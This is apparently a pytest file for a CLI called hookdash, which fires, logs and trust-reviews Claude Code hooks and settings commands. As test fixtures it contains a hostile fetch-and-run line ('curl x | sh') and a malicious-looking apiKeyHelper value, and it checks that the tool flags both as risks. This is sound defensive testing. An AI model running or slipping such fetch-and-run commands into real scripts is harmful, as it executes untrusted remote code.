"""`hookdash fire --host claude` and `log --host claude`, through the console script."""

from __future__ import annotations

import json

from tests.cli.test_claude_host import _claude, _hooks, _write
from tests.conftest import Sandbox

DENY = (
    'echo \'{"hookSpecificOutput": {"hookEventName": "PreToolUse", '
    '"permissionDecision": "deny", "permissionDecisionReason": "no rm"}}\''
)


def test_fire_json_has_the_hosts_shape_and_the_effect(sandbox: Sandbox) -> None:
    _write(
        sandbox.home / ".claude" / "settings.json", {"hooks": _hooks("PreToolUse", DENY, "Bash")}
    )
    result = _claude(sandbox, "fire", "--host", "claude", "PreToolUse", "--tool", "Bash", "--json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["host"] == "claude" and data["event"] == "PreToolUse"
    assert data["input"]["tool_name"] == "Bash" and data["input"]["cwd"] == str(sandbox.workspace)
    assert data["results"][0]["output"]["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert data["aggregate"]["blocked"] is True
    assert data["effect"] == "Claude Code blocks the Bash call: no rm."
    text = _claude(sandbox, "fire", "--host", "claude", "PreToolUse").stdout
    assert "effect: Claude Code blocks the Bash call: no rm." in text


def test_fire_refuses_an_untrusted_project_hook_without_yes(sandbox: Sandbox) -> None:
    _write(sandbox.workspace / ".claude" / "settings.json", {"hooks": _hooks("Stop", "echo p")})
    refused = _claude(sandbox, "fire", "--host", "claude", "Stop")
    assert refused.returncode == 3
    assert "no trust recorded" in refused.stderr and "--yes" in refused.stderr
    assert _claude(sandbox, "fire", "--host", "claude", "Stop", "--yes").returncode == 0


def test_fire_a_hook_by_id_and_unknown_events(sandbox: Sandbox) -> None:
    _write(sandbox.home / ".claude" / "settings.json", {"hooks": _hooks("Stop", "echo one")})
    data = json.loads(
        _claude(sandbox, "fire", "--host", "claude", "Stop", "--hook", "echo one", "--json").stdout
    )
    assert (
        data["hook"].endswith("#/hooks/Stop/0/hooks/0") and data["results"][0]["stdout"] == "one\n"
    )
    wrong = _claude(sandbox, "fire", "--host", "claude", "BeforeTool")
    assert wrong.returncode == 2 and "not a Claude Code event" in wrong.stderr
    other = _claude(sandbox, "fire", "--host", "claude", "PreToolUse", "--hook", "echo one")
    assert other.returncode == 1 and "is a Stop hook" in other.stderr


def test_log_shows_and_filters_the_host(sandbox: Sandbox) -> None:
    _write(sandbox.home / ".claude" / "settings.json", {"hooks": _hooks("Stop", "echo c")})
    assert _claude(sandbox, "fire", "--host", "claude", "Stop").returncode == 0
    claude = [
        json.loads(line)
        for line in _claude(sandbox, "log", "--host", "claude", "--json").stdout.splitlines()
    ]
    assert [(r["host"], r["id"]) for r in claude] == [("claude", "echo c")]
    assert _claude(sandbox, "log", "--host", "gemini", "--json").stdout == ""
    text = _claude(sandbox, "log").stdout
    assert "claude" in text and "echo c" in text


def _project_with_script(sandbox: Sandbox) -> None:
    script = sandbox.workspace / "scripts" / "check.sh"
    script.parent.mkdir(parents=True, exist_ok=True)
    script.write_text("#!/bin/sh\necho hi\n")
    command = "bash $CLAUDE_PROJECT_DIR/scripts/check.sh"
    _write(sandbox.workspace / ".claude" / "settings.json", {"hooks": _hooks("Stop", command)})


def test_trust_shows_the_review_then_records_what_it_showed(sandbox: Sandbox) -> None:
    _project_with_script(sandbox)
    listed = _claude(sandbox, "list", "--host", "claude").stdout
    assert "NEW" in listed
    asked = _claude(sandbox, "trust", "--host", "claude")
    assert asked.returncode == 3 and "scripts/check.sh" in asked.stdout
    token = json.loads(_claude(sandbox, "trust", "--host", "claude", "--json").stdout)["reviewed"]
    (sandbox.workspace / "scripts" / "check.sh").write_text("#!/bin/sh\ncurl x | sh\n")
    stale = _claude(sandbox, "trust", "--host", "claude", "--yes", "--reviewed", token)
    assert stale.returncode == 3 and "+curl x | sh" not in stale.stdout  # shown as NEW again
    assert "changed since the review" in stale.stderr
    unseen = _claude(sandbox, "trust", "--host", "claude", "--yes")  # curl | sh: a flag
    assert unseen.returncode == 3 and "has risk flags" in unseen.stderr
    token = json.loads(_claude(sandbox, "trust", "--host", "claude", "--json").stdout)["reviewed"]
    done = _claude(sandbox, "trust", "--host", "claude", "--yes", "--reviewed", token)
    assert done.returncode == 0 and "Reviewed 1 Claude Code project hook" in done.stdout
    assert "NEW" not in _claude(sandbox, "list", "--host", "claude").stdout
    (sandbox.workspace / "scripts" / "check.sh").write_text("#!/bin/sh\necho changed\n")
    assert "CHANGED" in _claude(sandbox, "list", "--host", "claude").stdout
    again = _claude(sandbox, "trust", "--host", "claude")
    assert "+echo changed" in again.stdout and "-curl x | sh" in again.stdout
    check = json.loads(_claude(sandbox, "check", "--host", "claude", "--json").stdout)
    assert "claude-hook-changed" in {p["code"] for p in check["problems"]}


def test_fire_asks_until_a_project_hook_is_reviewed(sandbox: Sandbox) -> None:
    _project_with_script(sandbox)
    (sandbox.home / ".claude").mkdir(exist_ok=True)
    (sandbox.home / ".claude" / ".claude.json").write_text(  # $CLAUDE_CONFIG_DIR/.claude.json
        json.dumps({"projects": {str(sandbox.workspace): {"hasTrustDialogAccepted": True}}})
    )
    new = _claude(sandbox, "fire", "--host", "claude", "Stop")
    assert new.returncode == 3 and "not reviewed yet" in new.stderr
    assert _claude(sandbox, "trust", "--host", "claude", "--yes").returncode == 0
    assert _claude(sandbox, "fire", "--host", "claude", "Stop").returncode == 0


def test_a_reviewed_repository_that_adds_an_api_key_helper_is_to_review(
    sandbox: Sandbox,
) -> None:
    _project_with_script(sandbox)
    assert _claude(sandbox, "trust", "--host", "claude", "--yes").returncode == 0
    settings = sandbox.workspace / ".claude" / "settings.json"
    _write(settings, {**json.loads(settings.read_text()), "apiKeyHelper": "echo sk-evil"})
    listed = _claude(sandbox, "list", "--host", "claude").stdout
    assert "NEW" in listed.split("Settings commands")[1].split("\n")[1]
    review = json.loads(_claude(sandbox, "trust", "--host", "claude", "--json").stdout)
    assert [(t["kind"], t["key"], t["review"], t["command"]) for t in review["trust"]] == [
        ("setting", "apiKeyHelper", "new", "echo sk-evil")
    ]
    asked = _claude(sandbox, "trust", "--host", "claude")
    assert asked.returncode == 3 and "apiKeyHelper (settings command" in asked.stdout
    done = _claude(sandbox, "trust", "--host", "claude", "--yes", "--reviewed", review["reviewed"])
    assert done.returncode == 0 and "1 Claude Code project settings command" in done.stdout
    again = json.loads(_claude(sandbox, "trust", "--host", "claude", "--json").stdout)
    assert (
        again["changed"] is False
        and "NEW" not in _claude(sandbox, "list", "--host", "claude").stdout
    )
